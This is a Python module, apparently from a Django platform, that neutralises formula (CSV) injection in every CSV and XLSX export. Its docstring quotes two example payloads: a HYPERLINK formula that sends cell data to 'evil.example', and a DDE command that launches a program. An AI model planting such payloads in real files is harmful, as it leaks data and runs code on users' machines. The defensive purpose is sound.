"""The cells of every CSV and XLSX file the platform writes, defused against formula ("CSV") injection.

A spreadsheet that opens an export runs a text cell starting with = + - @ (or a tab or a carriage return, or any
of those after leading spaces) as a formula: `=HYPERLINK("http://evil.example/?d="&B2, "Open map")` sends the
neighbouring cells away when clicked, `-2+3+cmd|' /C calc'!A0` starts a program through DDE. Every export goes
through this module, so the rule lives in one place (OWASP, "CSV Injection"):

- CSV: such a text gets a leading single quote, which spreadsheets read as "this is text".
- XLSX: every text is written as a string cell (openpyxl would otherwise store a text starting with "=" as a
  live formula); a formula-like text keeps its exact value and gets the "quote prefix" style, so it stays text
  even when someone edits the cell.
- Reading a CSV back (core.tabular), a quote before a formula-like text is taken off again (unquote_cell).
- Numbers, dates and empty cells are written as they are: -3 stays the number -3. A text that is only a plain
  decimal number ("-3", "-12.5", "-1e-05") or a lone dash placeholder computes nothing and is left alone too.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@")
CONTROL_START = ("\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

_VALUE_TYPES = (bool, int, float, Decimal, dt.date, dt.time)


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text as a formula (or a DDE command)?"""
    if not text:
        return False
    if text.startswith(CONTROL_START):
        return True
    if not text.lstrip().startswith(FORMULA_START):
        return False
    return not (text == "-" or _PLAIN_NUMBER.fullmatch(text))


def safe_cell(value: Any) -> Any:
    """A value as it may go into a CSV cell: numbers and dates unchanged, None empty, formula-like text quoted."""
    if value is None:
        return ""
    if isinstance(value, _VALUE_TYPES):
        return value
    text = str(value)  # lazy translations and other objects become text first, then are checked
    return "'" + text if _needs_quote(text) else text


def _needs_quote(text: str) -> bool:
    # A text that already looks quoted ("'=1") gets one more quote, so unquote_cell gives it back whole.
    return is_formula_like(text.lstrip("'"))


def unquote_cell(text: str) -> str:
    """The text safe_cell quoted, as it was: an export re-imports unchanged (core.tabular reads CSV with it)."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a byte-order mark (so Excel opens Vietnamese correctly), every cell through safe_cell."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, sheet: str = "table") -> bytes:
    """An XLSX workbook of one sheet whose texts are all string cells: no cell is ever a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(_sheet_title(sheet))

    def cell(value: Any) -> Any:
        if value is None or (isinstance(value, _VALUE_TYPES) and not isinstance(value, dt.datetime)):
            return value
        text = value.isoformat() if isinstance(value, dt.datetime) else str(value)
        out = WriteOnlyCell(worksheet, value=text)
        out.data_type = "s"  # openpyxl makes "=..." a formula when the value is set
        if is_formula_like(text):
            out.quotePrefix = True
        return out

    for row in rows:
        worksheet.append([cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _sheet_title(title: str) -> str:
    """Excel's limits: at most 31 characters, none of []:*?/\\ ."""
    cleaned = re.sub(r"[\[\]:*?/\\]", " ", str(title)).strip()[:31]
    return cleaned or "table"


def spreadsheet_response(filename: str, rows: Iterable[Sequence[Any]], fmt: str, *, sheet: str = "table"):
    """An attachment of the rows as `<filename>.csv` or `<filename>.xlsx` (fmt "csv" or "xlsx")."""
    from django.http import HttpResponse

    if fmt == "xlsx":
        response = HttpResponse(xlsx_bytes(rows, sheet=sheet), content_type=XLSX_CONTENT_TYPE)
    elif fmt == "csv":
        response = HttpResponse(csv_bytes(rows), content_type=CSV_CONTENT_TYPE)
    else:
        raise ValueError(f"unknown spreadsheet format {fmt!r}")
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response
